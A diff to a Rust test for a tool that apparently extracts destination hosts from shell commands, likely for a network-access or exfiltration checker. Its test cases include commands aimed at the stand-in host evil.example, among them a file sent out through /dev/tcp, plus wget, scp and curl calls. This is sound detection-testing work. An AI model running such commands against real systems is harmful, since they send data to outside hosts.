@@ -200,7 +200,7 @@ fn hosts_are_found() {
         ("wget -O - http://evil.example:8080", "evil.example"),
         (
             "wget http://user:pw@evil.example",
-            "(unclear) http://user:pw@evil.example",
+            "(unclear) http://user:pw@evil.example http://user:pw@evil.example",
         ),
         ("ssh -p 22 me@evil.example ls", "evil.example"),
         ("scp f me@evil.example:/tmp/", "evil.example"),
@@ -213,7 +213,10 @@ fn hosts_are_found() {
         ("gh pr create", "github.com"),
         ("python3 x.py --to https://evil.example", "evil.example"),
         ("cat x > /dev/tcp/evil.example/80", "evil.example"),
-        ("curl \"https://$H/x\"", "(unclear) https://$H/x"),
+        (
+            "curl \"https://$H/x\"",
+            "(unclear) https://$H/x https://$H/x",
+        ),
         ("curl http://0x7f000001/", "127.0.0.1"),
         ("echo https://evil.example", ""),
         ("git commit -m 'see https://evil.example'", ""),
